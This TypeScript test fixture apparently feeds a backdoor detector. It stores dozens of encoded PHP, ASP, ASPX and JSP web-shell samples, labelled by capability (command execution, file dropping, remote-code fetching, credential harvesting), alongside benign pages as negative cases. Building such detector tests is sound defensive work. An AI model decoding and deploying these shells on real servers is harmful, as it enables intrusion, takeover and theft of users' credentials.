/**
 * Pages written for the tests of their reader, learnt from the collections of the third round: passwords that are collected, code that is kept by
 * empty commands, digits and lists from being read, tags of JSP, things of other runtimes. Stored as those of `pages.fixture.ts`.
 */
import type { Capability } from './page-facts.ts';
import type { BackDoorPage } from './pages.fixture.ts';

export const thirdRound: readonly BackDoorPage[] = [
  {
    name: 'php-empty-command.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '==wOp0lIjJyWUV0RfRCKmRCI7ISbi4CYvoCI4BiKvAmLiUGdi4CYg5iIzl3ciASPgYGJgAHaw9DP',
  },
  {
    name: 'php-null-between.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=sTKdJyYisFVFd0XkgiZkAyOi0WZ0JiLsxWdu5iIzl3ciASPgYGJgAHaw9DP',
  },
  {
    name: 'php-static-method.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '7kSXiMmIbRVRH9FJoYGJgsTKiQnVHRmesNzYigSY6oDWg0DImRCI9BSfgsTKiRCKlR2bjVGZfRjNlNXYiBibyVHdlJHI7BSKiRCKhBibvlGdj5WdmByYpRXY0NHI7BCWgM3chx2YgAHaw9DP',
  },
  {
    name: 'php-list.php',
    capability: 'runs-code',
    parameter: 'f',
    text: '7kSYkgiZkAyOd1lIhJyWUV0RfRCIs0lImJyWUV0RfRyWg0DIpEGJgwiZkgCdzlGbgAHaw9DP',
  },
  {
    name: 'php-pcntl.php',
    capability: 'executes-commands',
    parameter: 'id',
    text: '=sTKpQWakACLiMWLigSehJnchBCLig2cv4Wai9iIoMWZ4V2XsRnbjBHI70lIklmIbRVRH9FJg0DIklGJgAHaw9DP',
  },
  {
    name: 'php-fetches-program.php',
    capability: 'executes-commands',
    parameter: null,
    text: '7kyJ7oCd4RnLyBiZtASbytDd4RnLyBCbyVGc7QHe05icn4Sdk4yJg8ULgwmc1N2Ow1GdvACZjdCKjVGelByOn8yNuIjLw4iM5EzLvoDc0RHanASPgUHJgAHaw9DP',
  },
  {
    name: 'php-yaml.php',
    capability: 'runs-code',
    parameter: null,
    text: '==wOpkyJlNWYsBXZy91ZlJHcnAiP9AiI911Jw92JbR1UFVVUFJ1XksXIigSehJnchBCLuRCIsADIskHJoU2cyFGcfxWbhlHI7IiIcVGfr4CfiwFI9NHJ7FCI6cmbpRXZlJ3ZiASPgkHJgsTKdJCcvJyWUNVRVFVRS9FJoUGZvNmblxmc1BSPgMHJgAHaw9DP',
  },
  {
    name: 'php-upload-as-page.php',
    capability: 'takes-uploads',
    parameter: null,
    text: '=sTKoAXdg0HI7IyavJCIvh2YlBSKp4GJgwSXiUWbh52Xw1GdisVXiUnIbNVRMlkRfRCKlxWam9FZlRWYvxGc19VZ29WbgYiJgkSXiUnIbNVRMlkRfRCK0V2czlGKgYWagsjIwhGcuUGbpZWLzdmbpRHdlNnIg0DIuRCI7BSKoAXdg42bpR3YuVnZgAHaw9DP',
  },
  {
    name: 'php-dropper.php',
    capability: 'writes-files',
    parameter: null,
    text: '==wOpICevcXYy9SZsBXbhhXZuUGdzFGcv8iOzBHd0hmIgwiIwhGcuAjIoQXdwBSfgsTKnRCIsgGJoUGdpJ3dmByOpIydiACLiUWbh5GJv0FVP9kUfRlTF1UVD9ERbJVRWJVRT9FJigiblB3bmBSPggGJgsTKlxWamRCKzRnblRnbvN2X0V2ZfVGbpZGI9AyZkAyegkSZslmZkACLl1WYuRCK0VHcg42bpR3YuVnZgAHaw9DP',
  },
  {
    name: 'php-fetched-code.php',
    capability: 'runs-code',
    parameter: null,
    text: '7kyYk4iI+8jIowWY2VGI7kiI49ydhJ3LlxGctFGel5SZ0NXYw9yL6MHc0RHaigyc05WZ052bj9Fdld2XlxWamBSPgMGJgAHaw9DP',
  },
  {
    name: 'utf7-zeros.asp',
    capability: 'runs-code',
    parameter: 'k',
    text: '=4TJK0CcBF1SBl0QBJnQnlUQnNUQwI0djFUVHFUMCF1YBV1RBlnQBtUQ3dUQoJ0ZkFUVHF0KKUCP+UCMwATN2ADMwADM9U2ZhBXZk92YAVCP',
  },
  {
    name: 'php-globals.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=sTKdJyYisFVFd0XkgybnBSfgsTKjRCKdBzWdJycmJyWTxUQC9ETHRCIuJXd0VmcgsHIpMGJo82Zg42bpR3YuVnZgsTKpICdWdEZ6x2MjJCKlR2bjVGZfRjNlNXYihSehJnchBSPg0lIzZmIbNFTBJ0TMdEJgAHaw9DP',
  },
  {
    name: 'php-in-asp.asp',
    capability: 'runs-code',
    parameter: 'h',
    text: '==gP/AyOp0lIoJyWUN1TQ9FJowWY2VGIwhGc/wjC+wWb0h2L84Tek9mYvwjP5R2bixjPkFWZo9CP+UGb0lGdvwDNwQjPlxGdpRHP+QWYlhGP+wWb0hGP',
  },
  {
    name: 'radix.jsp',
    capability: 'executes-commands',
    parameter: 'n',
    text: '==gPlAyOpkiYocmbpJHdTBydl5GIrAiIgM2LgUGel5CZtNmIoMWZ4VmLpgSZtlGduVnU0V2ZuUWbpRnb1JFI9ACcgM3clN2byBFI9ByO4BSPg0lMg8CIptlYgsTK1QDIeBCeoASKlRXeihCI9ACegsTK2EDIskiMgsCIpBCLphyZulmc0NnY1NnLzhCdulUZzJXYw5icldWZ05WSgkSZ0lnYoASPggHIlRXeiByegkiMgsCIpBSPgkGI7IDItASKogGdn5WZs5ycg0DPgkGI7ADI9ASagQnbphCIy9mZgsTXyAyLgkCKoR3ZuVGbuM3WlRXeiBydl5GI9AiYg01WlRXeiByOpIibigiclRXZtFmchBFdldmL0NXZ1FXZyBSPgMHIn5WayR3UgUCP',
  },
  {
    name: 'use-bean.jsp',
    capability: 'executes-commands',
    parameter: 'c',
    text: '+UCI7kCK0JXY0NnLpkiIjJCKyVGdl1WYyFGU0V2ZuQ3clVXclJHKk5WYt12bj5CcgUCP+8iIyVGZslWdCN3clN2byBlLn5WYs5SY2Fmai0zczFGbjBiIwJSPklGIuFWZCV2c1pDczpGP',
  },
  {
    name: 'rhino.jsp',
    capability: 'runs-code',
    parameter: 'c',
    text: '=4TJgsTKsxWduBCLxACLignIgwSKiMmIoIXZ0VWbhJXYQRXZn5CdzVWdxVmcgwSKoMHdjVmai9EZyFGZuFGdTRXaulmL4NGKn5WayR3UlRXY1xWY2VmL4NGI7kCKyVGduVmL0hXZ052bD5CdwlmcjNXY2FmauEGbslmev1mLnJ3bg0DI4NGI0hXZ052bD5CdwlmcjNXY2FmauEGbslmev1mLnJ3bgUCP',
  },
  {
    name: 'no-name.ashx',
    capability: 'loads-code',
    parameter: 'p',
    text: '==Qfg0HI9ByOlNHbhZGIuJXd0VmcgsHI0V2ZgsHIlxmYhNXdlJ1cJBCbv9mYgMWasJWdwBSfgsTKjhycsFWdxVkLpISQigSZj5WY0NnbJVGdhVmcD5SKp0lIwJyW0NXZ1FXZS5yYocmbpJHdTRjNlNXYC12byZkL0JXZ252bD5SblR3c5NFKkF2bM5SesJWblN3cB5ibvlGdjVGbmVmUu0WZ0NXeTByegkyYgQHelRnbvNEc0RHSuIWZX5SblR3c5NFK0NXZ1FXZSN3clN2byBFIkl2b2ByYpxmY1BHI7BiclxGZuFGSwRHdIlkLiV2Vu0WZ0NXeTBiOggEIzNXYsNGIjlGbiVHcgogPlAiIIJSPzNXYsNEIiMyQi0TZnFWdn5WYMBCIAVCP',
  },
  {
    name: 'unclosed-directive.aspx',
    capability: 'runs-code',
    parameter: null,
    text: '=4TJ7kiIlZWYz5WdiwSXiMmIb1WZ0lmL0NXZ1FXZShCbhZXZlwjPiQHcpJ3YzpkI9U2ZhV3ZuFGTgU2ZhBHQgUCP',
  },
  {
    name: 'sheet.aspx',
    capability: 'runs-code',
    parameter: 'a',
    text: '+QXZlh2clxWe0NnOsNHevwjPlRXYsBXblRnOsNHevwjPvISKognO1JSP0NWZsV2cgY2btUWdsFmd6w2c4xjPiI3Li0DajRXYtBSZ0FGbw1WZ0pDbzhHP+QHcpJ3YzpDbzh3ct9CP9ByOpISZmF2cuVnIgwSXiEmIb1WZ0lkL0NXZ1FXZS5yYowWY2VGI7QnblJnc1NkL0hXZ052bDBHd0hkLiV2Vu0WZ0NXeTBSPgMGIyFmdgsHIpgCeg42bpR3YuVnZ+ISdi0DepZWZyBXLzRnbl1WZsBXbpBiI0BXayN2UKJSPldWY1dmbhxGI0BXayN2c6w2c4NXb84jI1JSP1pzcuxWb4BiI0x2c4pTbvNWL0Z2bz9mcjlWbtMXYtVGajNnOuJXdi0Dbzh3ctpzcuxWb4BiItJ3bmNnbhJHVvw0UY9SO5kTMvcmcv5yM35yd3d3LvoDc0RHai0DbzhnOz5GbthHIiAjLxISPu9WazJXZ2BCdlVGazVGb5R3c6w2c4xjC+8jIw4SMi0jbvl2cyVmdgwWb49DP',
  },
  {
    name: 'workflow.ashx',
    capability: 'runs-code',
    parameter: 'x',
    text: '9BSfg0HI7U2csFmZg4mc1RXZyByegQXZnByegUGbiF2c1VmUzlEIs92biByYpxmY1BHI9ByOpEGKlt2b25WSuIXZr9mdul0dvxmZrJ3bXByOpkSXignIbR3clVXclJlLjhiclRWYlJ1Zulmc0NFI3VmboQWYvxkLzV2YpZnclNFbtFGW5RXa2lGdjFkLu9Wa0FmcnVGdulEbtFGWuMXZpRXa2lGdjFkLtVGdzl3Ug0DIhBichZHI7BSKjBCd4VGdu92QwRHdIhCdzVWdxVmUzNXZj9mcQBCZp9mdgMWasJWdwByegIXZsRmbhhEc0RHSJBiOggEIzNXYsNGIjlGbiVHcg4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'parse-control.aspx',
    capability: 'runs-code',
    parameter: 'x',
    text: '+UCI7kyYoQGZB5ycs9mc052bDByOp0lI4JyW0NXZ1FXZShCbvJHdu92QlNnchBlLs9mc052bDVGdhxGctVGVg0DIjBCbvJHdu92QgUCP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'document-saved.asp',
    capability: 'writes-files',
    parameter: 'p',
    text: '+UCIpkiIwJCK0NXZ1FXZShCa0FGUwFWTuIXZ2JXZTBSZ2F2cuQGI6ASKignIoQ3clVXclJFIM1EWkF2bs5CZgoDIpICduVWb1N2bE10TE5iMs1Gez1kIoQ3YlpmYPVGdhVmcDBSPgQGI0V2UgUCP',
  },
];

export const doubtfulThird: readonly { readonly name: string; readonly capability: Capability; readonly text: string }[] = [
  {
    name: 'collects-words.aspx',
    capability: 'takes-credentials',
    text: '=4TJgsTKdJCZy92dzNXYwJyWtJ3bG5CdzVWdxVmUgsCIiojIgsCIdJSZtFmbyV2c1JyWtJ3bG5CdzVWdxVmUgwiIn9GbuUHXchHXcpzQiAEK0hXZUxGbBRmblBHcB5SZslmRu8USu0WZ0NXeTBSKsxWduBSPhASXiUWbh5mclNXdisVby9mRuQ3clVXclJFKgYWagUCP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'collects-from-boxes.aspx',
    capability: 'takes-credentials',
    text: '=4Tby9mZvwjPvIiclZnclNnI9QXYuVncgICZy92dzNXYQRHe0JSPklGI49mQ0hXZUpDczFGP+8iIyVmdyV2ci0Ddh5WdyBiIyV2cVRHe0JSPklGI49mQ0hXZUpDczFGP+IiclZnclNnI9QXYuVncg0mcvZGP+QHcpJ3Yz9CP9BSfgsTK0hXZU5CZy92dzNXYQRHe0ByKgICIiAyKgQHelRlLyV2cVRHe0hSZulGTlRXaydlL3ByegkSKlVnc0BCLpICd4RnLhJCKoRXYQBXYN5iclZnclNFKyVGdpJ3VtFWZyR3Uu8USu0WZ0NXeTBydl5GI9AydgIXY2hCIn5WazVHI7BSKlBycnJXQ05WZ2VEIsMHI0NWZqJ2boIEIkl2b25jIyVmdyV2ci0Ddh5WdyBCdwlmcjNHP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'collects-words.jsp',
    capability: 'takes-credentials',
    text: '+UCI7kCKlN3bsNmL3ByOpkiIkJ3b3N3chBnIoIXZ0VWbhJXYQRXZn5CdzVWdxVmcgsCIiojIgsCIpISZtFmbyV2c1JCKyVGdl1WYyFGU0V2ZuQ3clVXclJHKlRXaydnL3ByOpUWdyRHIsICevAXb09iIoIXZ0lmcXVGbpZEI3Vmbg0DI3BiclRXaydVZslmRgUCP',
  },
  {
    name: 'collects-words.php',
    capability: 'takes-credentials',
    text: '==wOpIyLgojbvlGdhN2bMJCKyVGZhVGagsTKdJCZ3N3chBnIbR1UPB1Xk4iIgIiLdJibpd2bsJyWUN1TQ9FJgwiZkgSZ0lmc3ZGI7kiIhJCIsICd4RnLn9GbigiblB3bmBSPgYGJgAHaw9DP',
  },
  {
    name: 'mails-words.php',
    capability: 'takes-credentials',
    text: '7kSbkACLic2bsJCIs8GdkgCbpFWbgsjIlxGctFGel5CbpFWbAFmIg0DIvRHJgsTXiM3chBnIbR1UPB1Xk4iIgoDciASPuASbkAyOi4GXi4SXiIXZzVnIbR1UPB1Xk4iIgoTdiASPg0GJgAHaw9DP',
  },
  {
    name: 'hides-mail.php',
    capability: 'sends-mail',
    text: '==wOpcHJgwiIlJXZoJCIsISZsBXbhhXZuwWah1GQhJCK4RCI70lIF1UQO9FVQlkUDNlIbJVRWJVRT9FJu0lIF1UQO9lUFZlUFNlIbJVRWJVRT9FJg0DI3RCI7ICN1EDXpFGZ2gHXiASPggHJgAHaw9DP',
  },
  {
    name: 'mails-list.php',
    capability: 'sends-mail',
    text: '=0HI7kSXi0mIbR1UPB1XkACLdJycisFVT9EUfRCIskidkgSbpJHdowWah1GI7BSKpwGJog2YhVGI9ASK2RCIssGJoQ3cpxGKgUGbph2dgsTKdJSZtFmbfBXb0JyWdJycslWYtVmIbNVRMlkRfRCKlxWamBSPgwGJgAHaw9DP',
  },
  {
    name: 'desk-thing.aspx',
    capability: 'executes-commands',
    text: '+UCI7ICdyFGdTJCI9ASZtFmTk9Ga0VWTu8GI7kSXiEmIbR3clVXclJFKkRWQuMnclRXZtFmchBFZvhGdl1kLvByOpgyczV2YvJHUuM3YpR3cv52ZhlGRu0WZ0NXeTBydl5GI9ASZj5WY0NnbJR3YlpmYP5ybgsTKoIXZklmdvJHUhRXYER3YlpmYP5SY0FGRuM3dvRmbpdlLtVGdzl3UgcXZuBSPg8GIyFmdgUCP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'pipe.aspx',
    capability: 'proxies-traffic',
    text: '==gPlAyOpgCdjVmbu92Qu4GI7kSXiAnIbR3clVXclJFIs0lIoJyW0NXZ1FXZShSbhVmc0NFduVWasNUZwlGUkVWbh5kLzVGcpBlLPlkLtVGdzl3UgcXZuBSPg4GIyFmdgUCP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'route.aspx',
    capability: 'loads-code',
    text: '=4TJgsTKpgiUgcXZuBCLwgCdyV2culkLzVGd19mUuUGbiFGVlRXdvJlLn5Wa0V3bS5iYldlLtVGdzl3UgUCP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'resources.aspx',
    capability: 'deserialises',
    text: '==gPlASfgsHIpIHIulGI4BichZHKgg2YhVmcvZGI7kSbhVmc0NFd1BnbJ5CdzVWdxVmUoIXZkFWZSV2YyV3bzVmUYNXZS5yclNmc192clJlLtVGdzl3UgcXZuBSPgIHIyFmdgUCP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'library-in-picture.aspx',
    capability: 'loads-code',
    text: '+UCI7kiIBJCKlNmbhR3culUZ0FWZyNkLpkiInBnaugnIogGdhBFch1kLyVmdyV2Uo02byZEZh9GTukHbi1WZzNXQu42bpR3YlxmZlJlLtVGdzl3UgUCP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'hidden-request.aspx',
    capability: 'runs-code',
    text: '==gPlAyOpkSKi0DMslkNKl3V0Z1RkpUNDRmeWdFZ4ZVbVJCKn5WayR3U0YTZzFmQt9mcG5CdyVmdu92Qu0WZ0NXeThyZulmc0NFdldkL4YEVV5yZulGZvNmbF5Cd4VGVu0WZ0NXeThydvh2cgUCP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'slip.aspx',
    capability: 'executes-commands',
    text: '+UiCpgCbsFEZhVmUuQXdPRGdT5CZtNGIlRXaydlLlNnbvB3clJlCpIiIoMWZ4VkLzJHI9ACZtNGI0V2UK0lIsxWZoNlL0BXayN2UXJCK0NWZqJ2TlRXYlJ3Qg0DIzJHI0V2UKUCP',
  },
  {
    name: 'attach.jsp',
    capability: 'loads-code',
    text: '=4TJgsTKiIXYq5SYvAXb09iIoQnbldWQkF2bs5idgsTKpICcigiclRXZtFmchBFdldmL0NXZ1FXZyhCajFGd0FmLl5WaoNWYNxWY1RncpZlLoNWY0RXYuMHbv9Gdu4Wdz5SbvNGI9AidgUmbph2Yh1EbhVHdylmVug2YhRHdh5ycs92b05ib1NnLt92YgUCP',
  },
  {
    name: 'import-by-address.jsp',
    capability: 'proxies-traffic',
    text: '==gPvISf15SbhJXYwtHJi0DbyVHI0J3bw1Wa6MGP+UiIlJ3bj9Cb0NnavA3cq9SbvNmLuV3cuEmdhp2LvoDc0RHai0TayVHIiMmI9gXamVmcwBiYpx2ZhRHIAVCP',
  },
  {
    name: 'names-machine.php',
    capability: 'shows-secrets',
    text: '=sTKoQ2djRXZnByboNWZgsTKoUWbh5WdfBHawByboNWZgAHaw9DP',
  },
  {
    name: 'many-folders.php',
    capability: 'writes-files',
    text: '==QfgsTKiUmclhGIlJXZ3BSZ3JCIsICbtRHaugXZk5WavIiLkRCKzRnblRnbvN2X0VHcfVGbpZGI7BSKkRCIzFGIpICbtRHafNWasJWdw9iKvUWbvh2LigiYvx2ZoACajFWZy9mZgAHaw9DP',
  },
  {
    name: 'asks-names.php',
    capability: 'proxies-traffic',
    text: '==wOpkSWOF0XT5ERgwSckgCZy92YlJ3X0V2ZfNnbkhicfRnbpJHcgsTXiEnIbR1UPB1XkASPgEHJgAHaw9DP',
  },
  {
    name: 'admin-of-shop.php',
    capability: 'makes-accounts',
    text: '==wOpgSZ2F2c+0SKpIiYiAiP9AiIkJ3b3N3chBnIgwiIhJCI+0DIiUWbh5mclNXdigSehJnchhSY0FGR0V2c+0SKiIXZzV3LulWbkFmIowWZk9WT0V2Z6oTZnFWTgsTKoAHchpjOldWYNByOiAHaw5SZnFWTvAHchJCIlNmbv9VZylWdxVmcgAHaw9DP',
  },
  {
    name: 'file-server.asp',
    capability: 'executes-commands',
    text: '+UCImxkcDJmdgYCIjBiJgICIjVGelBSZ0l2ciAiJgYGTyNkY2BiJgIybnBiclNXViACZuV2cuIGI6AiIiACLiICIsUWdyRFIsIycvICImACcgYCIioTMuAjLw4yNyEzLvoDc0RHaiACLiQVRHJCIuVGcv5iYgoDIpICUURFSM1EWuQnZvN3byNWaNJCK0NWZqJ2TlRXYlJ3QuIXZ2JXZTBSPgIGI0V2UgUCP',
  },
  {
    name: 'many-slashes.php',
    capability: 'reads-files',
    text: '7wGJg8GajVGIpwGJgMXYgkiIkd3czFGcv8yLv8yY0V2LigSZslmZoACajFWZy9mZgAHaw9DP',
  },
  {
    name: 'php-session-handler.php',
    capability: 'runs-code',
    text: '=sTKoQnchR3cf52bpN3clNHI7kiIjdmIgwiI59mc0NXZkJCIsISZ0lmc3JCIsMHJgwiIlN3bsNmIgwiIuVGcvJCKyVGbk5WYo9VZ2F2cfRXZz9lbvl2czV2cgsTKdJyaisFVTVUVRVkUfRCKkl2Xu9WazNXZzByOpYTMxgicoNmLpQTMxgicoNmLpEDMxgicoNmLpUTMxgicoNmLpUTMxgicoNmLpcTOoIHajBSPgMHJgAHaw9DP',
  },
  {
    name: 'renamed.php',
    capability: 'runs-code',
    text: '==wOpAHJosmbpxmb1ByOwRCIlRWdsNmbpByOpAHJgwCdkgSZtFmblJHI7ICcoBnLi4CdkASPgAHJgsTKkRCIsQHJoMHduVGdu92YfRXdw9VZslmZgsjInBnauE2Li4SKoIXak9FctVGdfRXZn91c5NHI9ACdkAyOpMGJoMWZ4V2XsJXdjBSPgQGJgsTKiE2LlxGctFGel5SZ0NXYw9yL6MHc0RHaiACLMJVVfRFUPxkUVNEIsMGJoQHcvRXZz9FbyV3YgsTKoQXaul2XsJXdjBSPgMGJgAHaw9DP',
  },
  {
    name: 'mail-store.php',
    capability: 'reads-files',
    text: '=sTKxACLzRCK5R2bi9Fch1Wag8GajVGI7kiIiACLiICIs0lImJyWUN1TQ9FJo4WZw92XwFWbpBSPgMHJgAHaw9DP',
  },
  {
    name: 'temporary.php',
    capability: 'runs-code',
    text: '=sTK0RCKr5Was5WdgsDdkASZkVHbj5WagsTKhRCIsQHJoMHduVGdu92YfRXdw9VZslmZgsTKiAnIgwiIth2cvYXZk9iIo0WYuBXblRHI9ACdkAyOpUHJoQXZnBSPgEGJg0HI7QGJg4mc1RXZyByOpMGJoMWZ4V2XsJXdjBSPgQGJgsTK1RCK0lmbp9FbyV3Yg0DIjRCI7BSK1RCK0V2Zg42bpR3YuVnZgAHaw9DP',
  },
];

export const ordinaryThird: readonly { readonly name: string; readonly text: string }[] = [
  {
    name: 'contact.php',
    text: '7kSXiQHelRnIbR1UPB1Xk4iIuxlIu0lIl1WYuJyWUN1TQ9FJgwiIlRXazBSZoRHIt9mcGJCIsISZsBXbhhXZuwWah1GQlNWamZ2bigCbpFWbgsTKdJCd4VGdisFVT9EUfRCKzdWY09FcpJHdzBSPgQHelRHJgAHaw9DP',
  },
  {
    name: 'registration.php',
    text: '==wOiU3b5ByauFGa0JCIvh2YlBSfgszb0RiLpQFTVFkRFR0XEJ1TXN1UBBFIsM3chBHJog2chh2XkJ3b3N3chBHIuJXd0VmcgsTXiQmcvd3czFGcisFVT9EUfRCI9AyczFGckAyOdJCbpFWblJyWUN1TQ9FJg0DIvRHJgsHIpgSZt92YsV2dg42bpR3YuVnZgAHaw9DP',
  },
  {
    name: 'sign-up.aspx',
    text: '+0mcvZ2L84zLiIXZ2JXZzJSP0Fmb1JHIiQmcvd3czFGU0hHdi0DZpBCevJEd4VGV6A3chxjPvIiclZnclNnI9QXYuVncgIiclNXV0hHdi0DZpBCevJEd4VGV6A3chxjPiIXZ2JXZzJSP0Fmb1JHItJ3bmxjP0BXayN2cvwTfgsTKoNXYoBCL0hXZU5iclNXV0hHdoQGZB5ycyVmYtVWTgsTK0hXZU5CZy92dzNXYQRHe0hCZy92dzNXYQh2chhkLvRHc5J3Qg0DIoNXYoBichZHI7BSKlBycnJXQ05WZ2VEIsMHI0NWZqJ2boIEIkl2b25jIyVmdyV2ci0Ddh5WdyBCdwlmcjNHP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'include-own.jsp',
    text: '==gPlAyOpkiItVGdpJCKyVGdl1WYyFGU0V2ZuQ3clVXclJHKkRWYuQnchNGIlwjPvIibvl2czV2ci0TZw92YzBiI0JXYD5Ccvh2ci0zczFGbjBiI0JXYjJSPklGIuFWZCV2c1pDczpGP+8iIwNnauQWYlh2LG5UStIURX9iI9U2ZhBHIlRWdsNmbppDczpGP',
  },
  {
    name: 'import-own.jsp',
    text: '+UCI7kiI4JCK05WayBnL0V3bgUCP+8iIwNnauUnbl12Li0DbyVHI0J3bw1Wa6MGP+UiIlJ3bj9Cb0NnavA3cq9SbvNmLuV3cuEmdhp2LvoDc0RHai0TayVHIiMmI9gXamVmcwBiYpx2ZhRHIAVCP',
  },
  {
    name: 'colours.jsp',
    text: '==gPlAyOpIHK05WayBnL0V3bgsTK2EDIskiMgwCMocmbpJHdzJWdz5SKiIXdvx2bjJCKyVGdl1WYyFGU0V2ZuQ3clVXclJHK05WSlNnchBnLyV2ZlRnbJBSPgIHI05WagUCP',
  },
  {
    name: 'few-blanks.aspx',
    text: '=4DcvwjPlAydv5kLl1WaUVGdhREI9UCP+AHP+UCIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgACIgUCP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'list-of-folder.php',
    text: '9ByOoRCIsICeiACL3RCIvh2YlByOp4GJuIyLzVmc1R3YpBnIoUmepNXZnFWbpRXZnBSPgkCakACL3RCK0NXasByegkibkAychBSKiMXZyVHdjlGcigicpRmbhN2coACajFWZy9mZgAHaw9DP',
  },
  {
    name: 'handler-of-thumbs.ashx',
    text: '=0HI9BSfgsTZ1JHdg4mc1RXZyByegQXZnByegUGbiF2c1VmUzlEIs92biByYpxmY1BHI9ByOpUWbh5kLpQWaoQmbpZkLzVmc1R3YpBFKlRXaydlLlNnbvB3clJlLjByOp0lIklmIbR3clVXclJlLjhSZzJXYQ5CdulGI9ACZpBCdulGI7BSKjBCd4VGdu92QwRHdIhCdzVWdxVmUzNXZj9mcQBCZp9mdgMWasJWdwByegIXZsRmbhhEc0RHSJBiOggEIzNXYsNGIjlGbiVHcg4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'own-sheet.aspx',
    text: '==gPlAyOpgGdn5WZM5CdoUGdpJ3VuU2cu9GczVmUgsTKi4zL0VWZoNXZslHdzpDbzhHPigCZuVGcwFkL0ByOpgiclRGbpVnQn5WayR3UuQHelRlLtVGdzl3UgcXZuBSPgQHIyFmdgUCP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
];
